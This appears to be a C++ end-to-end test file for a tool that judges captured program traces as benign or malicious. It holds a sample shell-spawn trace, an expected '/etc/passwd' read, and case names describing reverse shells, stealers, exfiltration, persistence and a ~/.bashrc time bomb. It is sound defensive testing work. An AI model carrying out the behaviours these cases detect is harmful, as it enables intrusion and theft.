  EXPECT_EQ(lines, 1374u);
  ASSERT_EQ(j->root["stitched"].get(stitched), simdjson::SUCCESS);
  EXPECT_EQ(stitched, 183u);
  ASSERT_EQ(j->root["exits"].get(exits), simdjson::SUCCESS);
  EXPECT_GE(exits, 1u);
  for (const char* k : {"syscalls", "signals", "errors", "diagnostics", "bytes", "seconds", "bytes_per_second",
                        "peak_rss_bytes"})
    EXPECT_FALSE(j->root[k].error()) << k;
}

// A temporary file that is removed when the test ends.
struct TempFile {
  fs::path path;
  TempFile(const std::string& name, const std::string& text)
      : path(fs::temp_directory_path() / ("rundown_" + std::to_string(::getpid()) + "_" + name)) {
    std::ofstream(path) << text;
  }
  ~TempFile() { fs::remove(path); }
};

TEST(EndToEnd, RulesCheckAcceptsTheBuiltinSourcesAndPositionsErrors) {
  std::vector<std::string> args = {"rules", "check"};
  for (const auto& f : fs::directory_iterator(fs::path(RUNDOWN_TESTDATA).parent_path() / "rules/builtin"))
    args.push_back(f.path().string());
  CliRun pack = Cli(args);
  EXPECT_EQ(pack.code, 0) << pack.err;
  EXPECT_EQ(pack.out, "7 files checked: 0 errors, 0 warnings\n");
  EXPECT_EQ(pack.err, "");

  TempFile bad("check.rules",
               "list unused = (\"a\")\nrule r {\n  category process\n  severity high\n  when proc.nmae = \"sh\"\n"
               "  observation \"x\"\n  recommendation \"y\"\n}\n");
  CliRun r = Cli({"rules", "check", bad.path.string()});
  EXPECT_EQ(r.code, 2);
  EXPECT_EQ(r.out, "1 file checked: 1 error, 1 warning\n");
  EXPECT_NE(r.err.find(bad.path.string() + ":1:6: warning: list 'unused' is never used"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(bad.path.string() + ":5:8: unknown field 'proc.nmae' (did you mean 'proc.name'?)"),
            std::string::npos) << r.err;
  EXPECT_NE(r.err.find("\n  when proc.nmae = \"sh\"\n       ^"), std::string::npos) << r.err;
}

TEST(EndToEnd, RulesTestRunsTestBlocksAndFailsOnAWrongExpectation) {
  fs::path dir = fs::path(RUNDOWN_TESTDATA).parent_path() / "rules/builtin_tests";
  CliRun pass = Cli({"rules", "test", (dir / "process_test.rules").string()});
  EXPECT_EQ(pass.code, 0) << pass.out << pass.err;
  EXPECT_NE(pass.out.find("PASS " + (dir / "process_test.rules").string() + ":5: node_runs_a_shell\n"),
            std::string::npos) << pass.out;
  EXPECT_TRUE(pass.out.ends_with(" passed, 0 failed\n")) << pass.out;

  TempFile wrong("wrong_test.rules",
                 "test shell_is_missed {\n  file \"strace_log.28\" \"\"\"\n"
                 "    19:31:41.209238 execve(\"/usr/bin/node\", [\"node\", \"app.js\"], 0x7fff1fb90288 /* 7 vars */) = 0\n"
                 "    19:31:44.345505 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, "
                 "child_tidptr=0x7f9f9e698f50) = 91\n    \"\"\"\n  file \"strace_log.91\" \"\"\"\n"
                 "    19:31:44.352012 execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"id\"], 0x3291a690 /* 15 vars */) = 0\n"
                 "    \"\"\"\n  expect shell_spawned silent\n}\n");
  CliRun fail = Cli({"rules", "test", wrong.path.string()});
  EXPECT_EQ(fail.code, 1) << fail.out << fail.err;
  EXPECT_NE(fail.out.find("FAIL " + wrong.path.string() + ":1: shell_is_missed\n"), std::string::npos) << fail.out;
  EXPECT_TRUE(fail.out.ends_with("0 passed, 1 failed\n")) << fail.out;
}

TEST(EndToEnd, EventsWhereListsTheMatchingEventsWithTheirLines) {
  CliRun r = Cli({"events", Case("p4_shell_spawn"), "--where", "evt.op = \"exec\" and not proc.is_target"});
  ASSERT_EQ(r.code, 0) << r.err;
  std::vector<std::string> lines;
  std::istringstream in(r.out);
  for (std::string l; std::getline(in, l);) lines.push_back(l.substr(0, l.find(' ')));
  EXPECT_EQ(lines, (std::vector<std::string>{"strace_log.91:42", "strace_log.92:2", "strace_log.93:2"}));
  EXPECT_NE(r.out.find("/bin/sh"), std::string::npos);
  EXPECT_TRUE(r.err.starts_with("3 of ")) << r.err;

  CliRun nd = Cli({"events", Case("p4_shell_spawn"), "--where", "file.path = \"/etc/passwd\" and proc.pid = 93",
                   "--format", "ndjson", "--limit", "1"});
  ASSERT_EQ(nd.code, 0) << nd.err;
  auto j = ParseJson(nd.out);
  EXPECT_EQ(Str(j->root, "evt.op"), "open");
  EXPECT_EQ(Num(j->root, "evt.line"), 35u);
  EXPECT_EQ(Str(j->root, "proc.cmdline"), "cat /etc/passwd");

  // Without --where every event is listed.
  CliRun all = Cli({"events", Case("p4_shell_spawn"), "--limit", "1"});
  ASSERT_EQ(all.code, 0) << all.err;
  EXPECT_TRUE(all.out.starts_with("strace_log.28:1 ")) << all.out;
  EXPECT_EQ(all.err, "1629 of 1629 events matched (1 shown)\n");

  CliRun bad = Cli({"events", Case("p4_shell_spawn"), "--where", "evt.op = "});
  EXPECT_EQ(bad.code, 2);
  EXPECT_NE(bad.err.find("<where>:1:"), std::string::npos) << bad.err;
}

// Every real capture in testdata/cases/ gets the verdict and exit code its EXPECTED.md states.
TEST(EndToEnd, CapturedCasesGetTheirExpectedVerdicts) {
  const std::vector<std::tuple<const char*, const char*, int>> cases = {
      {"cases/py_http_clean", "PASS", 0},
      {"cases/node_threads_clean", "PASS", 0},
      {"cases/damaged_inputs", "PASS", 0},
      {"cases/damaged_lost_data", "INCONCLUSIVE", 3},  // text lost: not assessed
      {"cases/c_segv_midrun", "WARN", 0},
      {"cases/py_reverse_shell_attempt", "FAIL", 1},
      {"cases/c_privilege_and_memfd", "FAIL", 1},
      {"cases/sh_dropper_persistence", "FAIL", 1},
      {"cases/sh_script_crash", "INCONCLUSIVE", 3},
      {"cases/c_missing_shlib", "INCONCLUSIVE", 3},
      {"cases/npm_start_clean", "PASS", 0},
      {"cases/py_socket_stdio_shell", "FAIL", 1},
      {"cases/py_filtered_trace", "INCONCLUSIVE", 3},
      {"cases/launcher_chain_shell", "FAIL", 1},  // no inotify.log: harm stands anyway
      {"cases/py_successful_only_z", "INCONCLUSIVE", 3},  // only the trace
      {"cases/java_socket_clean", "PASS", 0},
      {"cases/py_dns_lookup", "INCONCLUSIVE", 3},  // only the trace and program.log
      {"cases/c_container_escape", "FAIL", 1},
      {"cases/py_port_scan_raw", "FAIL", 1},
      {"cases/py_ransomware_home", "FAIL", 1},
      {"cases/py_dns_tunnel", "FAIL", 1},
      {"cases/node_postinstall_stealer", "FAIL", 1},
      {"cases/perl_bind_shell", "FAIL", 1},
      {"cases/php_builtin_server_clean", "PASS", 0},
      {"cases/ruby_webrick_clean", "PASS", 0},
      {"cases/sh_privesc_recon", "FAIL", 1},
      {"cases/c_evasive_miner", "FAIL", 1},
      {"cases/c_stealth_implant", "FAIL", 1},
      {"cases/c_resource_abuse", "FAIL", 1},
      {"cases/go_http_clean", "PASS", 0},
      {"cases/go_exec_beacon", "FAIL", 1},
      {"cases/go_dns_tunnel", "FAIL", 1},
      {"cases/rust_antidebug_c2", "FAIL", 1},
      {"cases/py_mp_exfil", "FAIL", 1},
      {"cases/py_key_exfil", "FAIL", 1},
      {"cases/tcl_kv_clean", "PASS", 0},
      {"cases/nginx_daemon_clean", "PASS", 0},
      {"cases/redis_bgsave_clean", "PASS", 0},
      {"cases/lighttpd_cgi", "WARN", 0},
      {"cases/make_gcc_build", "WARN", 0},
      {"cases/git_gc_clean", "PASS", 0},
      {"cases/redis_daemon_bind_fail", "INCONCLUSIVE", 3},  // the daemon died at start
      {"cases/node_dep_tamper", "FAIL", 1},
      {"cases/sh_user_unit_persistence", "FAIL", 1},
      {"cases/sh_reverse_shells", "FAIL", 1},
      {"cases/sh_tar_nc_exfil", "FAIL", 1},
      {"cases/sh_ransom_zip_loop", "FAIL", 1},
      {"cases/sh_proc_hide_mount", "FAIL", 1},
      {"cases/npm_install_local_tarball", "WARN", 0},        // a package's postinstall ran
      {"cases/py_native_ext_undefined_symbol", "INCONCLUSIVE", 3},  // ImportError at start
      {"cases/py_stdlib_shadow_pth", "FAIL", 1},  // socket.py beside the script, a user-site .pth
      {"cases/apache_prefork_clean", "PASS", 0},
      {"cases/postgres_clean", "PASS", 0},
      {"cases/memcached_clean", "PASS", 0},  // an empty inotify log, its watcher in ps
      {"cases/dnsmasq_clean", "PASS", 0},
      {"cases/node_cluster_http", "PASS", 0},
      {"cases/haproxy_lb_clean", "PASS", 0},  // its worker's end by SIGTERM logged as ALERT
      {"cases/mosquitto_clean", "PASS", 0},
      {"cases/sqlite_batch_clean", "PASS", 0},
      {"cases/dnsmasq_daemon", "PASS", 0},  // a double-fork daemon
      {"cases/node_stderr_in_trace", "INCONCLUSIVE", 3},            // missing module at start
      {"cases/timeout_py_deadlock", "WARN", 0},      // hung until timeout's SIGTERM
      {"cases/timeout_server_stopped", "PASS", 0},   // stopped at timeout's limit
      {"cases/time_c_fork_workers", "PASS", 0},      // under /usr/bin/time
      {"cases/script_qc_py_cli", "PASS", 0},         // script -qc's bash -c is the wrapper's
      {"cases/su_sh_c_py_cli", "PASS", 0},           // su's sh -c forks the command: both launchers
      {"cases/bwrap_pidns_py_cli", "PASS", 0},       // a fork's "= 2" inside bwrap's pid namespace
      {"cases/npm_prefix_install_tarball", "WARN", 0},  // --prefix DIR before install
      {"cases/c_abort_midrun", "WARN", 0},           // SIGABRT after its output: mid-run
      {"cases/node_addon_missing", "INCONCLUSIVE", 3},  // addon never built: start-up
      {"cases/c_hang_stdin_read", "WARN", 0},        // read(0) on a fifo until timeout's SIGTERM
      {"cases/c_hang_poll", "WARN", 0},              // epoll_wait(-1) until the harness's SIGTERM
      {"cases/c_hang_connect", "WARN", 0},           // connect unanswered until SIGKILL
      {"cases/c_hang_wait_child", "WARN", 0},        // wait4 for a stuck worker
      {"cases/c_segv_buffered", "WARN", 0},          // SIGSEGV after reading its input: mid-run
      {"cases/c_time_bomb", "FAIL", 1},              // 32 s of short sleeps, then a shell and ~/.bashrc
      {"cases/c_fork_bomb", "FAIL", 1},              // copies forking until EAGAIN: fork_bomb
      {"cases/c_fork_bomb_stopped", "FAIL", 1},      // copies of copies forking, stopped at 1 s: fork_bomb
      {"cases/sh_c_cd_py_cli_s32", "PASS", 0},       // sh -c's string cut by -s 32: python3 the target
      {"cases/py_echo_attach_preaccepted", "INCONCLUSIVE", 3},  // strace -p: the start not traced
      {"cases/erlang_escript_kv", "PASS", 0},      // escript -> erl -> erlexec -> beam.smp, epmd -daemon
      {"cases/php_cli_autoload", "PASS", 0},       // vendor/autoload.php, PCRE2's JIT page
      {"cases/lua_cli_modules", "PASS", 0},
      {"cases/py_venv_local_pkg", "PASS", 0},      // .venv in the app dir, a wheel installed offline
      {"cases/c_busy_chat_server", "WARN", 0},       // 2 threads spin beside a server waiting in poll
      {"cases/py_site_build_clean", "WARN", 0},      // deletes only pages it made (inotify CREATE)
      {"cases/py_hash_batch_clean", "PASS", 0},      // a batch job at full CPU serves nothing
      {"cases/sh_vm_sandbox_checks", "WARN", 0},     // systemd-detect-virt, hypervisor flag, DMI
      {"cases/py_ssh_key_persist", "FAIL", 1},       // authorized_keys, ssh config, git hook by rename
      {"cases/sh_shm_loader_stage", "FAIL", 1},      // ld.so /dev/shm/x, python3 < /dev/shm/p
      {"cases/c_home_dropper", "FAIL", 1},           // a stage written to ~/.local/share and run
      {"cases/sh_session_persist", "FAIL", 1},       // Quadlet, i3 exec, GNOME extension, .forward
  };
  for (const auto& [name, verdict, code] : cases) {
    CliRun r = Cli({"analyze", Case(name), "--format", "json", "--threads", "2"});
    EXPECT_EQ(r.code, code) << name << r.err;
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), verdict) << name;
  }
}

// Real Debian daemons and tools whose benign shape looked malicious
// (testdata/cases/{nginx_daemon_clean,redis_bgsave_clean,lighttpd_cgi,make_gcc_build,git_gc_clean}
// /EXPECTED.md, and redis_daemon_bind_fail): a daemon that forks, calls setsid and outlives
// its launcher (and one that then dies at start: INCONCLUSIVE); redis's chdir into
// its data dir and its BGSAVE child; a CGI script per request; make's recipe shells and gcc's
// temporary files; git running itself for each gc step.
TEST(EndToEnd, RealDaemonsAndToolsAreJudgedByWhatTheyDo) {
  const std::vector<std::pair<const char*, std::map<std::string, uint64_t>>> cases = {
      {"nginx_daemon_clean", {{"process_forked", 3}, {"program_daemonized", 1}}},
      {"redis_bgsave_clean", {{"process_forked", 1}}},
      {"lighttpd_cgi", {{"child_process_spawned", 9}, {"script_run_while_serving", 3}, {"process_forked", 9}}},
      {"make_gcc_build",
       {{"child_process_spawned", 15}, {"compiled_then_run", 1}, {"process_forked", 15}, {"temp_write", 12}}},
      {"git_gc_clean", {{"process_forked", 7}}},
      {"redis_daemon_bind_fail",
       {{"startup_crash", 1}, {"nonzero_exit", 1}, {"program_daemonized", 1}, {"process_forked", 1}}},
  };
  for (const auto& [name, fired] : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + name), "--format", "json"});
    auto j = ParseJson(r.out);
    std::map<std::string, uint64_t> got = FiredCounts(*j);
    for (auto it = got.begin(); it != got.end();) it = it->first == "listening_socket" ? got.erase(it) : std::next(it);
    EXPECT_EQ(got, fired) << name;
  }
  CliRun r = Cli({"analyze", Case("cases/nginx_daemon_clean"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "program_daemonized"), "nginx_daemon_clean/strace_log", 182, "setsid()"));
  EXPECT_EQ(Str(j->root["overview"], "exit_status"), "exited with 0 after the harness's stop signal");
  EXPECT_EQ(Str(j->root["overview"], "life"), "reached steady state: it listened on a socket; the target daemonized: pid 48 "
                                               "carried on after the launcher (pid 47) exited 0");
  r = Cli({"analyze", Case("cases/lighttpd_cgi"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "script_run_while_serving"), "lighttpd_cgi/strace_log", 192,
                          "execve(\"/bin/sh\", [\"/bin/sh\", \"/home/auditor/app/www/cgi-bin/hits.sh\"]"));
}

// Commonly audited Debian servers, each in its own process model
// (testdata/cases/{apache_prefork_clean,postgres_clean,memcached_clean,dnsmasq_clean,
// node_cluster_http,haproxy_lb_clean,mosquitto_clean,sqlite_batch_clean,dnsmasq_daemon}/EXPECTED.md):
// apache's prefork children and its killpg of group 1 (kill(-1): low), its getaddrinfo route
// probes (UDP connects to port 0: no attempt); PostgreSQL's helpers and backends that call
// setsid and are reaped, its signals to their groups, its /dev/shm segments; memcached's
// threads named through /proc/self/task/TID/comm (pthread_setname_np: no finding) and an
// inotify log left empty by a watcher ps shows running; dnsmasq forwarding to a loopback
// upstream, with NSS's read of /etc/passwd and /etc/group; node:cluster workers that exec
// node with the primary's own script; HAProxy's master re-executing itself and logging its
// worker's end by the forwarded SIGTERM at ALERT level.
TEST(EndToEnd, CommonServersAreJudgedByWhatTheyDo) {
  const std::vector<std::pair<const char*, std::map<std::string, uint64_t>>> cases = {
      {"apache_prefork_clean", {{"process_forked", 2}, {"own_group_signal_broadcast", 1}}},
      {"postgres_clean", {{"process_forked", 8}, {"shared_memory_segment", 11}}},  // shm_open: IPC
      {"memcached_clean", {}},
      {"dnsmasq_clean", {{"target_account_database_read", 2}, {"dns_lookup", 1}}},  // its upstream on :5399
      {"node_cluster_http", {{"process_forked", 2}}},  // its workers re-run server.js: no spawn
      // its resolver check (UDP connect to 127.0.0.11:53, then close) sends nothing: no query
      {"haproxy_lb_clean", {{"process_forked", 1}, {"loopback_connect", 9}}},
      {"mosquitto_clean", {}},
      {"dnsmasq_daemon",
       {{"process_forked", 2}, {"program_daemonized", 1}, {"target_account_database_read", 2}, {"dns_lookup", 1}}},
  };
  for (const auto& [name, fired] : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + name), "--format", "json"});
    ASSERT_EQ(r.code, 0) << name << r.err;
    auto j = ParseJson(r.out);
    std::map<std::string, uint64_t> got = FiredCounts(*j);
    for (auto it = got.begin(); it != got.end();) it = it->first == "listening_socket" ? got.erase(it) : std::next(it);
    EXPECT_EQ(got, fired) << name;
    EXPECT_EQ(Str(j->root["overview"], "exit_status"), "exited with 0 after the harness's stop signal") << name;
  }
  CliRun r = Cli({"analyze", Case("cases/apache_prefork_clean"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "own_group_signal_broadcast"), "apache_prefork_clean/strace_log.47", 422,
                          "kill(-1, SIGTERM)"));
  EXPECT_EQ(Lines(*j, "process_tree")[0],
            "pid 47 /usr/sbin/apache2 -f /home/auditor/app/httpd.conf -DFOREGROUND  (exit 0)  ← target");

  // dnsmasq forwards www.example.org to server=127.0.0.1#5399: a query by its wire format on
  // a port that is not 53, to a loopback resolver: the name is looked up (info), no attempt.
  r = Cli({"analyze", Case("cases/dnsmasq_clean"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(Str(FindingOf(*j, "dns_lookup"), "observation"), "looked up www.example.org at 127.0.0.1:5399; 1 query send(s)");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "dns_lookup"), "dnsmasq_clean/strace_log.47", 482, "sin_port=htons(5399)"));

  r = Cli({"analyze", Case("cases/memcached_clean"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(Lines(*j, "missing_sources"), std::vector<std::string>{});
  EXPECT_EQ(Lines(*j, "notes"), std::vector<std::string>{
                                    "the inotify log is empty while ps lists its watcher running (inotifywait -m -r -e "
                                    "create,modify,delete,moved_to,close_write /home/auditor /tmp): no file event in "
                                    "the folders it watched"});
  EXPECT_EQ(Lines(*j, "process_tree")[0],
            "pid 45 /usr/bin/memcached -l 127.0.0.1 -p 11311 -U 0 -t 2 -m 16 -v  [7 threads]  (exit 0)  ← target");

  // dnsmasq's double fork: the launcher outlives the copy between, which called setsid; the
  // run's life is the daemon's.
  r = Cli({"analyze", Case("cases/dnsmasq_daemon"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "program_daemonized"), "dnsmasq_daemon/strace_log.51", 3, "setsid()"));
  EXPECT_EQ(Str(j->root["overview"], "life"), "reached steady state: it listened on a socket; the target daemonized: "
                                              "pid 52 carried on after the launcher (pid 50) exited 0");

  // A batch job behind a launcher shell: sh -c 'exec sqlite3 ...' is the start, not a spawn.
  r = Cli({"analyze", Case("cases/sqlite_batch_clean"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"target_account_database_read", 1}}));
  EXPECT_EQ(Str(j->root["overview"], "exit_status"), "exited with 0");
  EXPECT_EQ(Lines(*j, "process_tree")[0],
            "pid 44 sqlite3 -batch data/shop.db  exec chain: /bin/sh → /usr/bin/sqlite3  (exit 0)  ← target");
  // It finished its work: no server's steady state is claimed missing, and the verdict holds.
  EXPECT_EQ(Str(j->root["overview"], "life"),
            "the target ran to completion and exited with 0 after 0.02 s (it never listened or served: a command "
            "that ends by itself)");
  EXPECT_EQ(Str(j->root, "verdict"), "PASS");
  EXPECT_EQ(r.out.find("steady state"), std::string::npos);

  // Mosquitto's database, renamed as "data//mosquitto.db.new" and written through its fd's
  // "data/mosquitto.db.new": one file.
  r = Cli({"analyze", Case("cases/mosquitto_clean"), "--format", "json"});
  j = ParseJson(r.out);
  size_t db_lines = 0;
  for (const std::string& line : Lines(*j, "file_activity")) db_lines += line.find("mosquitto.db") != std::string::npos;
  EXPECT_EQ(db_lines, 2u);  // mosquitto.db and mosquitto.db.new

  // The postmaster's 8 children are forks without exec; ps's process titles
  // ("postgres: checkpointer") join their pids instead of standing as other processes, and the
  // tree says which child is which (the startup process 64 and the first backend 72 had ended).
  r = Cli({"analyze", Case("cases/postgres_clean"), "--format", "json"});
  j = ParseJson(r.out);
  const std::vector<std::string> tree = Lines(*j, "process_tree");
  size_t ps_only = 0;
  for (const std::string& line : tree) ps_only += line.starts_with("(ps only)");
  EXPECT_EQ(ps_only, 6u);  // the harness's shells, inotifywait, strace, ps and the untraced psql
  const std::string postmaster = "/usr/lib/postgresql/15/bin/postg... -D /home/auditor/app/pgdata";
  EXPECT_EQ(std::vector<std::string>(tree.begin(), tree.begin() + 9),
            (std::vector<std::string>{
                StrCat("pid 61 ", postmaster, "  (exit 0)  ← target"),
                StrCat("  └─ pid 62 ", postmaster, "  [ps: postgres: checkpointer]  (exit 0)"),
                StrCat("  └─ pid 63 ", postmaster, "  [ps: postgres: background writer]  (exit 0)"),
                StrCat("  └─ pid 64 ", postmaster, "  (exit 0)"),
                StrCat("  └─ pid 68 ", postmaster, "  [ps: postgres: walwriter]  (exit 0)"),
                StrCat("  └─ pid 69 ", postmaster, "  [ps: postgres: autovacuum launcher]  (exit 0)"),
                StrCat("  └─ pid 70 ", postmaster, "  [ps: postgres: logical replication launcher]  (exit 1)"),
                StrCat("  └─ pid 72 ", postmaster, "  (exit 0)"),
                StrCat("  └─ pid 76 ", postmaster, "  [ps: postgres: auditor postgres 127.0.0.1(34018) SELECT]  (exit 0)"),
            }));
}

// Command-line runs judged by their cause, each with the raw line behind it:
// - npm install of a local tarball whose postinstall runs `node scripts/build-table.js`
//   (testdata/cases/npm_install_local_tarball/EXPECTED.md): npm installing is the program
//   reviewed, not a launcher; the hook's shell is the package's code at install time
//   (install_script_ran), not a shell the program asked for; npm's cache in ~/.npm and its
//   look for ~/.npmrc are its own. Traced without -y: npm's getcwd names the app directory.
// - a Python CLI whose native module does not load (py_native_ext_undefined_symbol): a
//   start-up crash, and a missing dependency named by the library's path and symbol.
// - a C CLI that aborts on an assert after writing 4 records of its output (c_abort_midrun): a
//   crash mid-run (crashed, glibc's assert message fatal), not a start-up crash.
// - a Node.js CLI whose native addon was never built (node_addon_missing): a missing
//   dependency, at start-up.
// - the self-deleting installer of sh_dropper_persistence (no -y): bash's getcwd places
//   `rm -f -- ./install.sh` in the app directory, so the deletion of the script that ran is seen.
TEST(EndToEnd, CommandLineRunsAreJudgedByTheirCause) {
  struct Case_ {
    const char* name;
    std::map<std::string, uint64_t> fired;  // empty: not compared
    const char* rule;
    const char* file;
    int line;
    const char* text;
  };
  const std::vector<Case_> cases = {
      {"npm_install_local_tarball",
       {{"child_process_spawned", 2}, {"install_script_ran", 1}, {"process_forked", 2}, {"dns_query", 2},
        {"dns_lookup", 4}},
       "install_script_ran", "strace_log", 1712,
       "execve(\"/usr/bin/sh\", [\"sh\", \"-c\", \"node scripts/build-table.js\"]"},
      {"py_native_ext_undefined_symbol",
       {{"startup_crash", 1}, {"fatal_error_logged", 1}, {"missing_dependency", 1}, {"nonzero_exit", 1}},
       "missing_dependency", "program.log", 5,
       "ImportError: /home/auditor/app/lib/fastcsv.cpython-311-x86_64-linux-gnu.so: undefined symbol: fastcsv_simd_sum"},
      {"c_abort_midrun", {{"crashed", 1}, {"fatal_error_logged", 1}}, "fatal_error_logged", "program.log", 3,
       "ledger: /home/auditor/app/ledger.c:23: main: Assertion `fields == 2' failed."},
      {"node_addon_missing",
       {{"startup_crash", 1}, {"fatal_error_logged", 1}, {"missing_dependency", 1}, {"nonzero_exit", 1}},
       "missing_dependency", "program.log", 5, "Error: Cannot find module '../build/Release/x.node'"},
      {"sh_dropper_persistence", {}, "executed_file_deleted", "strace_log", 1552,
       "unlinkat(AT_FDCWD, \"./install.sh\", 0) = 0"},
  };
  for (const Case_& c : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + c.name), "--format", "json"});
    auto j = ParseJson(r.out);
    if (!c.fired.empty()) EXPECT_EQ(FiredCounts(*j), c.fired) << c.name;
    EXPECT_TRUE(AnyEvidence(FindingOf(*j, c.rule), std::string(c.name) + "/" + c.file, c.line, c.text)) << c.name;
    if (std::string_view(c.rule) == "install_script_ran")
      EXPECT_EQ(Str(FindingOf(*j, c.rule), "observation"),
                "a package install ran a package's lifecycle script: sh -c node scripts/build-table.js in "
                "/home/auditor/app/node_modules/tiny-slugify (pid 67, parent node pid 56); 1 script(s)");
  }
}

// What the program loaded, from the trace: a socket.py beside the script that `import socket`
// found first, and a .pth of the user's site-packages run at interpreter start
// (testdata/cases/py_stdlib_shadow_pth/EXPECTED.md); the Dependencies row lists the loads by
// ecosystem and origin. npm start's own packages are the launcher's, not the program's; the
// node it starts loads the project's server.js.
TEST(EndToEnd, TheDependenciesRowSaysWhatWasLoaded) {
  CliRun r = Cli({"analyze", Case("cases/py_stdlib_shadow_pth"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"stdlib_module_shadowed", 1},
                                                               {"python_startup_file_loaded", 1}}));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "stdlib_module_shadowed"), "py_stdlib_shadow_pth/strace_log", 596,
                          "\"/home/auditor/app/socket.py\", O_RDONLY|O_CLOEXEC) = 3"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "python_startup_file_loaded"), "py_stdlib_shadow_pth/strace_log", 369,
                          "site-packages/zz_hook.pth\", O_RDONLY|O_CLOEXEC) = 3"));
  EXPECT_EQ(TableRisk(*j, "dependencies"), "high");
  const std::string obs = TableField(*j, "dependencies", "observation");
  EXPECT_TRUE(obs.starts_with("loaded 17 Python standard-library modules from the system (encodings, hashlib, "))
      << obs;
  EXPECT_NE(obs.find("2 Python modules of its own from the project (report, socket)"), std::string::npos) << obs;
  EXPECT_NE(obs.find("1 Python start-up file from a home directory (zz_hook.pth)"), std::string::npos) << obs;

  CliRun npm = Cli({"analyze", Case("cases/npm_start_clean"), "--format", "json"});
  auto k = ParseJson(npm.out);
  EXPECT_EQ(TableField(*k, "dependencies", "observation"),
            "loaded 1 JavaScript module of its own from the project (server.js); 6 shared libraries from the system "
            "(libdl.so, libstdc++.so, libm.so, libgcc_s.so, +2); no missing module, package or library reported");
}

// Ordinary programs of ecosystems the engine had no case of read PASS, with the Dependencies
// row naming what they loaded (testdata/cases/{erlang_escript_kv,php_cli_autoload,
// lua_cli_modules,py_venv_local_pkg}/EXPECTED.md): an Erlang node whose runtime starts epmd
// (launchers, the port mapper's daemon mode, the JIT's MAP_SHARED memfd, erl_child_setup), a
// PHP script with a Composer-style autoloader (PCRE2's JIT page), a Lua script with its own
// modules, and a Python venv in the app dir with a package installed from a local wheel; Node.js
// with the npm registry's Express and ws, a Node.js CLI run through its #! line, a Ruby gem in an
// app-local GEM_HOME, a Java CLI in a jar of its own and a Perl CLI whose optional require fails
// (testdata/cases/{node_express_ws,node_shebang_direct,node_shebang_env,node_shebang_nosuffix,ruby_gem_home,java_own_jar,
// perl_optional_module}), and a Node.js CLI forking a worker of its own code (node_fork_worker).
TEST(EndToEnd, OrdinaryProgramsOfOtherEcosystemsReadRight) {
  static constexpr const char* kCsvsumDeps =
      "loaded 1 npm package from the project (tiny-table); 2 JavaScript modules of its own from the project "
      "(csvsum.js, lib/parse.js); 6 shared libraries from the system (libdl.so, libstdc++.so, libm.so, libgcc_s.so, "
      "+2); no missing module, package or library reported";
  struct Case_ {
    const char* name;
    std::map<std::string, uint64_t> fired;
    const char* deps;
  };
  const Case_ cases[] = {
      {"erlang_escript_kv",
       {{"process_forked", 4}, {"memfd_created", 2}, {"loopback_connect", 1}, {"listening_socket", 4}},
       "loaded 2 Erlang/OTP applications from the system (kernel, stdlib); 7 shared libraries from the system "
       "(libtinfo.so, libz.so, libstdc++.so, libm.so, +3); no missing module, package or library reported"},
      {"php_cli_autoload", {},
       "loaded 2 Composer packages from the project (monolog-lite/logger, acme/slugify); 4 PHP files from the "
       "project (build-index, autoload, autoload_psr4, Builder); 38 shared libraries from the system (libm.so, "
       "libxml2.so, libssl.so, libcrypto.so, +34); no missing module, package or library reported"},
      {"lua_cli_modules", {},
       "loaded 3 Lua modules from the project (wordfreq, textstats, fmt); 4 shared libraries from the system "
       "(libreadline.so, libm.so, libc.so, libtinfo.so); no missing module, package or library reported"},
      {"py_venv_local_pkg", {},
       "loaded 16 Python standard-library modules from the system (encodings, csv, re, enum, +12); 2 Python "
       "packages from the project (_distutils_hack, tinyfmt); 1 Python module of its own from the project "
       "(report); 1 Python start-up file from the system (sitecustomize); 1 Python start-up file from the "
       "project (distutils-precedence.pth); 4 shared libraries from the system (libm.so, libz.so, libexpat.so, "
       "libc.so); no missing module, package or library reported"},
      // 72 packages from the npm registry (ms twice: one name), all loaded by require('express').
      {"node_express_ws", {{"listening_socket", 1}},
       "loaded 71 npm packages from the project (express, body-parser, depd, merge-descriptors, +67); 1 JavaScript "
       "module of its own from the project (server.js); 6 shared libraries from the system (libdl.so, libstdc++.so, "
       "libm.so, libgcc_s.so, +2); no missing module, package or library reported"},
      // #!/usr/bin/node: the trace's only execve is ./csvsum.js's. Was WARN (executable_memory, V8's
      // code space "by csvsum.js") without csvsum.js and lib/parse.js in the row.
      {"node_shebang_direct", {}, kCsvsumDeps},
      {"node_shebang_env", {}, kCsvsumDeps},  // #!/usr/bin/env node: env execs node
      // `./csvsum` with #!/usr/bin/node and no suffix: only readlink("/proc/self/exe") names node.
      // Was WARN (executable_memory "by csvsum") without lib/parse.js in the row.
      {"node_shebang_nosuffix", {},
       "loaded 1 npm package from the project (tiny-table); 1 JavaScript module of its own from the project "
       "(lib/parse.js); 6 shared libraries from the system (libdl.so, libstdc++.so, libm.so, libgcc_s.so, +2); no "
       "missing module, package or library reported"},
      // GEM_HOME in the app's directory: its gem is the project's.
      {"ruby_gem_home", {},
       "loaded 46 Ruby standard-library files from the system (rubygems, rbconfig, compatibility, defaults, +42); "
       "1 Ruby gem from the project (tinystats); 1 Ruby file of its own from the project (report); 11 shared "
